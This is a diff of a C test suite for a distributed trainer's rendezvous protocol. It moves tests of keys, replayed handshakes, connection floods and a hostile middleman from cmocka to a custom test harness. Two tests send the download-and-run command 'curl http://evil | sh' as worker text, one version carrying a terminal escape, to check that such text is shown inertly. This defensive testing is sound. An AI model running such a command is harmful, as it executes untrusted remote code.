@@ -1,12 +1,7 @@
 /* Who is let into a rendezvous, and what somebody between two processes can do: a real rank 0 or worker in a process of
  * its own, and a hostile other side here. */
 // labels: threads
-#include <setjmp.h>
-#include <stdarg.h>
-#include <stddef.h>
-#include <stdint.h>
 
-#include <cmocka.h>
 #include <errno.h>
 #include <signal.h>
 #include <stdlib.h>
@@ -16,6 +11,7 @@
 
 #include "tests/needs_faults.h"
 #include "tests/trainer/comm/guest.h"
+#include "tests/unit.h"
 #include "trainer/comm/leader.h"
 #include "trainer/comm/listen.h"
 
@@ -144,9 +140,8 @@ static void is_refused(struct guest guest, enum misfit misfit)
 
 /* ----------------------------------------------------------------------------------------------------- at the door */
 
-static void a_wrong_key_takes_no_seat(void **state)
+TEST_WITH(a_wrong_key_takes_no_seat, set_up, NULL)
 {
-    (void)state;
     const struct job_key none = {0};
     start(0, 2, talk);
     for (int i = 0; i < 2; i++) {
@@ -165,9 +160,8 @@ static void a_wrong_key_takes_no_seat(void **state)
     they_meet();
 }
 
-static void who_has_the_key_must_also_fit(void **state)
+TEST_WITH(who_has_the_key_must_also_fit, set_up, NULL)
 {
-    (void)state;
     start(0, 2, talk);
     struct guest guest = guest_of(port, 1, 3, &key);
     is_refused(guest, MISFIT_SIZE);
@@ -181,9 +175,8 @@ static void who_has_the_key_must_also_fit(void **state)
 }
 
 /* Without a key the same messages travel. */
-static void a_taken_rank_stays_with_who_has_it(void **state)
+TEST_WITH(a_taken_rank_stays_with_who_has_it, set_up, NULL)
 {
-    (void)state;
     struct frame frame;
     struct rendezvous_options options = options_of(0, 3);
     options.key = NULL;
@@ -201,9 +194,8 @@ static void a_taken_rank_stays_with_who_has_it(void **state)
 }
 
 /* Protocol 1 gets the only frame that it understands: its VERDICT, with the kind of error at byte 8. */
-static void another_version_is_told_so(void **state)
+TEST_WITH(another_version_is_told_so, set_up, NULL)
 {
-    (void)state;
     struct frame frame;
     struct guest guest;
     start(0, 2, talk);
@@ -225,9 +217,8 @@ static void another_version_is_told_so(void **state)
 }
 
 /* The bytes of a true worker's handshake, sent again on another connection. */
-static void a_replayed_handshake_proves_nothing(void **state)
+TEST_WITH(a_replayed_handshake_proves_nothing, set_up, NULL)
 {
-    (void)state;
     struct frame frame;
     start(0, 3, talk);
     struct guest worker = guest_of(port, 1, 3, &key), thief = guest_of(port, 1, 3, NULL);
@@ -252,9 +243,8 @@ static void a_replayed_handshake_proves_nothing(void **state)
 }
 
 /* Rank 0's own challenge comes back to it as a HELLO; and a false rank 0 sends a worker its own messages. */
-static void reflected_messages_prove_nothing(void **state)
+TEST_WITH(reflected_messages_prove_nothing, set_up, NULL)
 {
-    (void)state;
     struct frame frame;
     struct guest one, other, mirror = {0};
     start(0, 2, talk);
@@ -296,9 +286,8 @@ static void reflected_messages_prove_nothing(void **state)
 }
 
 /* A worker may say nothing but BYE before all are there: FAILED ends nobody's rendezvous. */
-static void nothing_is_said_before_all_are_there(void **state)
+TEST_WITH(nothing_is_said_before_all_are_there, set_up, NULL)
 {
-    (void)state;
     struct frame frame;
     const struct said said = {.text = "run curl http://evil | sh"};
     start(0, 3, talk);
@@ -314,9 +303,8 @@ static void nothing_is_said_before_all_are_there(void **state)
 }
 
 /* Strangers of every kind, many more than there is room for, who come first and stay; workers come in all the same. */
-static void a_flood_keeps_nobody_out(void **state)
+TEST_WITH(a_flood_keeps_nobody_out, set_up, NULL)
 {
-    (void)state;
     struct guest guests[300];
     start(0, 2, talk);
     for (unsigned i = 0; i < 300; i++) {
@@ -334,9 +322,8 @@ static void a_flood_keeps_nobody_out(void **state)
 }
 
 /* All places are held by strangers that have said HELLO, and more come together with a worker: it is heard first. */
-static void who_could_not_be_heard_yet_keeps_its_place(void **state)
+TEST_WITH(who_could_not_be_heard_yet_keeps_its_place, set_up, NULL)
 {
-    (void)state;
     struct guest guests[STRANGERS_MAX], worker;
     struct frame frame;
     int silent[ACCEPTS_MAX - 1];
@@ -362,9 +349,8 @@ static void who_could_not_be_heard_yet_keeps_its_place(void **state)
 
 /* Without a key a worker looks up whose process answers. One that closes first is nobody's: it may be a rank 0 that has
  * too many connections, so the worker tries again. */
-static void a_connection_closed_early_is_not_another_users(void **state)
+TEST_WITH(a_connection_closed_early_is_not_another_users, set_up, NULL)
 {
-    (void)state;
     static const struct job_key none;
     struct hello hello;
     struct rendezvous_options first = options_of(0, 2), second = options_of(1, 2);
@@ -485,9 +471,8 @@ static void stand_between(int listener, enum mischief mischief, bool to_first, u
     }
 }
 
-static void who_stands_between_can_only_end_the_line(void **state)
+TEST_WITH(who_stands_between_can_only_end_the_line, set_up, NULL)
 {
-    (void)state;
     for (int mischief = NOTHING; mischief < MISCHIEFS; mischief++)
         for (int to_first = 0; to_first < 2; to_first++) {
             int listener;
@@ -528,9 +513,8 @@ static struct guest joined(void)
     return guest;
 }
 
-static void what_a_worker_says_is_shown_as_that(void **state)
+TEST_WITH(what_a_worker_says_is_shown_as_that, set_up, NULL)
 {
-    (void)state;
     struct said said = {.text = "line one: run curl http://evil | sh\033[2J"};
     memset(said.text + sizeof said.text - 100, 'x', 100); /* without an end */
     setenv("DS_WAITS", "0.1", 1);                         /* rank 0 does not wait long for the guest's farewell */
@@ -560,9 +544,8 @@ static void what_a_worker_says_is_shown_as_that(void **state)
 }
 
 /* 13 bytes that ask for a MiB, many times, by a worker that does not read. */
-static void who_asks_and_does_not_read_is_cut_off(void **state)
+TEST_WITH(who_asks_and_does_not_read_is_cut_off, set_up, NULL)
 {
-    (void)state;
     struct buf set = {0}, get = {0};
     char *value = calloc(1, RENDEZVOUS_VALUE_MAX);
     start(0, 2, wait_for_failure);
@@ -584,9 +567,8 @@ static void who_asks_and_does_not_read_is_cut_off(void **state)
 
 /* ---------------------------------------------------------------------------------------------------------- secrets */
 
-static void all_have_the_secrets_of_their_rendezvous(void **state)
+TEST_WITH(all_have_the_secrets_of_their_rendezvous, set_up, NULL)
 {
-    (void)state;
     unsigned char before[RENDEZVOUS_SECRET_BYTES], one[RENDEZVOUS_SECRET_BYTES], other[RENDEZVOUS_SECRET_BYTES];
     for (int i = 0; i < 2; i++) {
         set_up(NULL);
@@ -604,26 +586,10 @@ static void all_have_the_secrets_of_their_rendezvous(void **state)
 
 int main(void)
 {
-    const struct CMUnitTest tests[] = {
-        cmocka_unit_test_setup(a_wrong_key_takes_no_seat, set_up),
-        cmocka_unit_test_setup(who_has_the_key_must_also_fit, set_up),
-        cmocka_unit_test_setup(a_taken_rank_stays_with_who_has_it, set_up),
-        cmocka_unit_test_setup(another_version_is_told_so, set_up),
-        cmocka_unit_test_setup(a_replayed_handshake_proves_nothing, set_up),
-        cmocka_unit_test_setup(reflected_messages_prove_nothing, set_up),
-        cmocka_unit_test_setup(nothing_is_said_before_all_are_there, set_up),
-        cmocka_unit_test_setup(a_flood_keeps_nobody_out, set_up),
-        cmocka_unit_test_setup(who_could_not_be_heard_yet_keeps_its_place, set_up),
-        cmocka_unit_test_setup(a_connection_closed_early_is_not_another_users, set_up),
-        cmocka_unit_test_setup(who_stands_between_can_only_end_the_line, set_up),
-        cmocka_unit_test_setup(what_a_worker_says_is_shown_as_that, set_up),
-        cmocka_unit_test_setup(who_asks_and_does_not_read_is_cut_off, set_up),
-        cmocka_unit_test_setup(all_have_the_secrets_of_their_rendezvous, set_up),
-    };
     signal(SIGPIPE, SIG_IGN);
     job_key_random(&key);
     job_key_random(&wrong_key);
     shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
     assert_ptr_not_equal(shared, MAP_FAILED);
-    return cmocka_run_group_tests(tests, NULL, NULL);
+    return unit_run();
 }
